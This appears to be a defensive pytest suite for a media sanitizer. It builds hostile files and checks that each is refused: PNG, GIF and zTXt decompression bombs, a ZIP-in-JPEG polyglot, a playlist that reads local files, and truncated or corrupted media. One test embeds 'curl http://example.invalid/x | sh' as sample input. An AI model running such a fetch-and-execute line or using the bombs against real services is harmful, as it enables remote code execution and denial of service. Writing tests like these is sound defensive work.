"""Hostile input: each file is a clean refusal (the right reason, a message with no name or
value in it), no worker outlives its file, and the caller's process is unaffected."""

from __future__ import annotations

import io
import os
import struct
import subprocess
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from relay.sanitize import Stripping, Unstripped, detect, sandbox
from relay.sanitize.errors import (
    MESSAGES,
    Malformed,
    Refused,
    TooDemanding,
    Unsupported,
    WorkerFailed,
)
from relay.sanitize.sandbox import Sandboxed
from tests.sanitize import judge, samples
from tests.sanitize.conftest import clean


def _png_bomb() -> bytes:
    """A PNG that says 30000x30000 (900 megapixels) in a few hundred bytes."""
    raw = zlib.compress(b"\x00" * (30000 * 3 + 1) * 16, 9)
    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def _png_text_bomb(sizes: list[int]) -> bytes:
    """A small, valid PNG with compressed text chunks (zTXt) that inflate to `sizes`."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG")
    png = out.getvalue()
    chunks = b""
    for size in sizes:
        body = b"Comment\x00\x00" + zlib.compress(b"A" * size, 9)
        crc = zlib.crc32(b"zTXt" + body)
        chunks += struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", crc)
    return png[:33] + chunks + png[33:]  # after the signature and IHDR


@pytest.mark.parametrize(
    "sizes",
    [[200 << 20], [15 << 20] * 5],
    ids=["one chunk inflating to 200 MiB", "five of 15 MiB: past 64 MiB of text"],
)
def test_png_text_bombs_are_refused(sizes: list[int], stripping: Stripping) -> None:
    """The worker reads a PNG's compressed blocks up to 16 MiB each, 64 MiB of text in all
    (images.PNG_BLOCK_BYTES: large XMP packets and ICC profiles are real); past that, the
    file is refused without the text being inflated whole."""
    assert isinstance(_refusal(stripping, _png_text_bomb(sizes)), Malformed)


def _gif_bomb() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("P", (4000, 4000), i % 2) for i in range(40)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _refusal(stripping: Stripping, data: bytes) -> Refused:
    with pytest.raises(Refused) as caught:
        clean(stripping, data)
    message = str(caught.value)
    assert message in MESSAGES.values()
    return caught.value


def test_decompression_bombs_are_refused(stripping: Stripping) -> None:
    assert isinstance(_refusal(stripping, _png_bomb()), TooDemanding)
    assert isinstance(_refusal(stripping, _gif_bomb()), TooDemanding)


@pytest.mark.parametrize(
    "name",
    [
        *("jpeg", "png", "webp", "mp3", "mp4", "flac", "mkv", "webm", "mov", "avi"),
        *("avi-mjpeg", "avi-adpcm", "avi-h264", "avi-xvid-packed", "opus", "ogg-vorbis"),
    ],
)
def test_truncated_files_are_refused(name: str, stripping: Stripping, tmp_path: Path) -> None:
    """Cut to a third. The Motion JPEG AVIs hold no duration in a header to fall short of,
    and nothing in a JPEG frame or raw samples fails to parse: what shows the cut is the
    frame the file ends in, which the AVI demuxer hands over flagged corrupt
    (video.CutShort). The H.264 and packed MPEG-4 AVIs (written as AVIs, muxed twice)
    also fall short of their header's duration. These two-second Oggs lose part of their
    headers; one cut further on ends inside a page (test_ogg.py). A WAV cut short is
    written with the sizes of what it holds, since recorders leave sizes larger than that
    (test_memory.py), unless it ends inside a sample frame (below)."""
    data = samples.SAMPLES[name][0](tmp_path).read_bytes()
    assert isinstance(_refusal(stripping, data[: len(data) // 3]), Malformed)


@pytest.mark.parametrize("codec", ["pcm_s16le", "pcm_s24le"])
def test_a_wav_that_ends_inside_a_sample_frame_is_refused(
    codec: str, stripping: Stripping, tmp_path: Path
) -> None:
    """Cut one byte into a frame (16-bit mono: 2 bytes a frame; 24-bit: 3): its sound is
    not whole frames, so it is muxed rather than copied (wave.Unwritable), and the demuxer
    hands its last piece over flagged corrupt (video.CutShort), as it does a compressed
    frame cut short. The same file cut at that frame's start is cleaned."""
    data = samples.tone(tmp_path, "in.wav", "-c:a", codec).read_bytes()
    frame = 2 if codec == "pcm_s16le" else 3
    at = data.index(b"data") + 8
    whole = at + (len(data) - at) // 2 // frame * frame
    assert isinstance(_refusal(stripping, data[: whole + 1]), Malformed)
    _, report, out = clean(stripping, data[:whole])
    assert report.mime == "audio/x-wav" and len(out) >= whole - at


def test_a_script_named_jpg_is_unsupported(stripping: Stripping) -> None:
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
    assert detect(script).mime != "image/jpeg"
    assert isinstance(_refusal(stripping, script), Unsupported)


def test_a_zip_appended_to_a_jpeg_is_dropped(stripping: Stripping, tmp_path: Path) -> None:
    data = samples.jpeg(tmp_path).read_bytes()
    archive = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("secret-AmanahHidden.txt", "AmanahHiddenPayload")
    polyglot = data + archive.getvalue()
    assert detect(polyglot).mime == "image/jpeg"
    _, report, out = clean(stripping, polyglot)
    assert b"PK\x03\x04" not in out and b"AmanahHidden" not in out
    assert "data after the end of the image" in report.removed


def test_a_playlist_named_mp4_opens_nothing(stripping: Stripping, tmp_path: Path) -> None:
    """An HLS playlist pointing at a local file: detection calls it text, and even forced
    through the MP4 path (as if detection were fooled) ffmpeg may not follow it."""
    secret = tmp_path / "secret.mp4"
    secret.write_bytes(samples.mp4(tmp_path).read_bytes())
    playlist = f"#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXTINF:2,\nfile://{secret}\n#EXT-X-ENDLIST\n"
    assert isinstance(_refusal(stripping, playlist.encode()), Unsupported)
    sandboxed = Sandboxed()
    with pytest.raises(Malformed):
        sandboxed.strip("video/mp4", io.BytesIO(playlist.encode()), io.BytesIO())


def test_packed_mpeg4_outside_an_avi_is_refused(stripping: Stripping, tmp_path: Path) -> None:
    """DivX's packed B-frames (two frames in one packet) copied into Matroska: the second
    frame is found only through the user data that cleaning removes, so the file is
    refused rather than delivered with frames missing."""
    packed = tmp_path / "packed.mkv"
    samples.ffmpeg(
        "-fflags", "+genpts", "-i", str(samples.avi_xvid_packed(tmp_path)), "-map", "0",
        "-c", "copy", str(packed),
    )  # fmt: skip
    assert isinstance(_refusal(stripping, packed.read_bytes()), Malformed)


@pytest.mark.parametrize("where", [0.3, 0.6, 0.9])
def test_a_damaged_frame_anywhere_in_a_recording_is_refused(
    where: float, stripping: Stripping, tmp_path: Path
) -> None:
    """A recording's sound is decoded whole after the remux, not only its first frames as
    a video's: 64 bytes of an M4A's AAC overwritten anywhere make it a refusal (with the
    first 20 packets decoded, all three went through)."""
    data = bytearray(samples.m4a(tmp_path).read_bytes())
    start = data.index(b"mdat")
    at = start + int((len(data) - start) * where)
    data[at : at + 64] = b"\xff" * 64
    assert isinstance(_refusal(stripping, bytes(data)), Malformed)


def test_media_without_media_is_refused(stripping: Stripping, tmp_path: Path) -> None:
    """An MP3 that is only tags (no audio frames): nothing to clean, nothing to send."""
    from mutagen import id3

    path = tmp_path / "tags.mp3"
    tags = id3.ID3()
    tags.add(id3.TPE1(text=[samples.PERSON]))
    tags.save(path)
    with pytest.raises(Refused):
        Sandboxed().strip("audio/mpeg", io.BytesIO(path.read_bytes()), io.BytesIO())


@pytest.mark.parametrize(
    "wrap",
    [
        lambda audio: b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + audio,  # ID3v2 of 256 MiB
        lambda audio: audio + b"APETAGEX" + struct.pack("<IIII", 2000, 1 << 30, 0, 0) + bytes(8),
        lambda audio: audio[:100] + b"3DI\x04\x00\x10\x00\x7f\x7f\x7f",  # footer too large
    ],
    ids=["id3v2-past-the-end", "ape-before-the-start", "id3v2-footer-too-large"],
)
def test_an_mp3_whose_tag_sizes_do_not_fit_is_refused(
    wrap: Callable[[bytes], bytes], stripping: Stripping
) -> None:
    """The tags around an MP3's frames are cut off by their sizes (mp3.py): a size that
    points outside the file is a refusal, not a guess."""
    audio = subprocess.run(
        ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "sine=duration=1", "-c:a", "libmp3lame",
         "-id3v2_version", "0", "-write_xing", "0", "-f", "mp3", "-"],
        capture_output=True, check=True,
    ).stdout  # fmt: skip
    assert clean(stripping, audio)[1].stripped  # the frames alone are cleaned
    with pytest.raises(Malformed):  # the type given, as libmagic may not name it an MP3
        Sandboxed().strip("audio/mpeg", io.BytesIO(wrap(audio)), io.BytesIO())


@pytest.mark.parametrize("name", ["avi-mjpeg", "avi-adpcm"])
def test_a_motion_jpeg_frame_whose_segment_runs_past_it_is_refused(
    name: str, stripping: Stripping, tmp_path: Path
) -> None:
    """A camera's EXIF segment whose length runs past its frame: the frame cannot be
    rebuilt (jpeg.rebuild_frame), so the file is refused, streamed or rewritten in place,
    rather than passed with the segment inside."""
    untagged = tmp_path / "untagged.avi"  # no container tag for the last gate to look for
    samples.ffmpeg("-i", str(samples.SAMPLES[name][0](tmp_path)), "-map", "0", "-c", "copy",
                   "-map_metadata", "-1", str(untagged))  # fmt: skip
    data = bytearray(untagged.read_bytes())
    app1 = data.index(b"\xff\xe1", data.index(b"movi"))  # the first frame's EXIF
    data[app1 + 2 : app1 + 4] = b"\xff\xff"
    assert isinstance(_refusal(stripping, bytes(data)), Malformed)


def test_an_av1_packet_whose_obus_do_not_add_up_is_refused(
    stripping: Stripping, tmp_path: Path
) -> None:
    """The metadata OBU before the last frame with its forbidden bit set: refused, not
    passed with the metadata inside (obu.py stops at it; with obu.py's walk taken out,
    FFmpeg's Matroska muxer, which reads OBU headers too, refuses it as well)."""
    untagged = tmp_path / "untagged.mkv"  # no container tag for the last gate to look for
    samples.ffmpeg("-i", str(samples.av1(tmp_path)), "-map", "0", "-c", "copy",
                   "-map_metadata", "-1", str(untagged))  # fmt: skip
    data = bytearray(untagged.read_bytes())
    header = data.rindex(samples.SERIAL.encode()) - 4  # header, size, type, country code
    assert data[header] == (5 << 3) | 0x02
    data[header] |= 0x80
    assert isinstance(_refusal(stripping, bytes(data)), Malformed)


@pytest.mark.parametrize("seed", range(6))
def test_random_bytes_with_a_media_type_are_refused(seed: int) -> None:
    data = os.urandom(4096 + seed)
    for mime in (
        "image/jpeg", "image/png", "image/heic", "video/mp4", "audio/flac", "audio/x-wav",
        "audio/ogg", "audio/x-m4a", "audio/mpeg",
    ):  # fmt: skip
        with pytest.raises(Refused):
            Sandboxed().strip(mime, io.BytesIO(data), io.BytesIO())


def test_a_stuck_worker_is_killed_with_its_group(tmp_path: Path) -> None:
    data = samples.mp4(tmp_path).read_bytes()
    with pytest.raises(TooDemanding):
        Sandboxed(timeout_base=0.05).strip("video/mp4", io.BytesIO(data), io.BytesIO())
    leftovers = [
        p for p in Path("/proc").iterdir() if p.name.isdigit() and _cmdline(p).startswith("ffmpeg")
    ]
    assert leftovers == [] or all(_parent_is_not_ours(p) for p in leftovers)
    workers = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _is_our_worker(p)]
    assert workers == []


def _is_our_worker(proc: Path) -> bool:
    """A worker of this test process (a streamed video's: Python, not ffmpeg)."""
    try:
        status = (proc / "status").read_text()
    except OSError:
        return False
    parent = int(status.split("PPid:")[1].split()[0])
    return "relay.sanitize.worker" in _cmdline(proc) and parent == os.getpid()


def _cmdline(proc: Path) -> str:
    try:
        return (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def _parent_is_not_ours(proc: Path) -> bool:
    """An ffmpeg not started by a worker (a worker's reads its memfds by /proc/self/fd)."""
    return "/proc/self/fd" not in _cmdline(proc)


OK = '{"ok": true, "mime": "image/jpeg", "removed": ["EXIF Make"]}'


def _with_worker_answering(
    monkeypatch: pytest.MonkeyPatch, answer: str, exit_code: int = 0
) -> Sandboxed:
    """A sanitizer whose worker prints `answer` and exits, whatever it is given."""
    fake = f"import sys; sys.stdout.write({answer!r}); sys.exit({exit_code})"
    monkeypatch.setattr(sandbox, "_BOOT", fake)
    return Sandboxed(sandbox=False)


def test_a_worker_answer_that_makes_sense_is_believed(monkeypatch: pytest.MonkeyPatch) -> None:
    """The stand-in worker of the next test, believed when its answer holds together."""
    sandboxed = _with_worker_answering(monkeypatch, OK)
    outcome = sandboxed.strip("image/jpeg", io.BytesIO(b"x" * 100), io.BytesIO())
    assert outcome.mime == "image/jpeg" and outcome.removed == ("EXIF Make",)


@pytest.mark.parametrize(
    ("mime", "answer", "exit_code", "refusal"),
    [
        ("image/jpeg", "not json", 0, WorkerFailed),
        ("image/jpeg", "[1, 2]", 0, WorkerFailed),
        ("image/jpeg", "", 0, WorkerFailed),
        ("image/jpeg", '{"ok": true}', 0, WorkerFailed),  # no type, no list of what went
        ("image/jpeg", '{"ok": true, "mime": "image/jpeg", "removed": "EXIF"}', 0, WorkerFailed),
        ("image/jpeg", '{"ok": false}', 0, WorkerFailed),
        ("image/jpeg", '{"ok": false, "reason": "no-such-reason"}', 0, WorkerFailed),
        ("image/jpeg", '{"ok": false, "reason": "too-demanding"}', 0, TooDemanding),
        ("image/jpeg", OK, 1, WorkerFailed),  # it said ok, then failed
        ("video/mp4", OK, 0, WorkerFailed),  # it said ok, and sent no result
    ],
)
def test_a_worker_answering_nonsense_is_a_refusal(
    mime: str,
    answer: str,
    exit_code: int,
    refusal: type[Refused],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    sandboxed = _with_worker_answering(monkeypatch, answer, exit_code)
    with pytest.raises(refusal) as caught:
        sandboxed.strip(mime, io.BytesIO(b"x" * 100), io.BytesIO())
    assert str(caught.value) in MESSAGES.values()


def test_the_worker_runs_in_bubblewrap_without_network() -> None:
    sandboxed = Sandboxed()
    assert sandboxed.sandboxed, "bwrap is installed by scripts/setup.sh; the worker must use it"
    from relay.sanitize.sandbox import bwrap_prefix

    prefix = bwrap_prefix()
    assert "--unshare-all" in prefix and "--clearenv" in prefix and "--cap-drop" in prefix


def test_the_judge_catches_an_unstripped_file(tmp_path: Path) -> None:
    """The judge must be able to fail: the pass-through sanitizer's output is caught."""
    source = samples.jpeg(tmp_path)
    out = io.BytesIO()
    Unstripped().clean(detect(source.read_bytes()), io.BytesIO(source.read_bytes()), out)
    copied = tmp_path / "copied.jpg"
    copied.write_bytes(out.getvalue())
    assert judge.unexpected_tags(copied)
    assert judge.strings_found(out.getvalue(), set(samples.MARKERS))
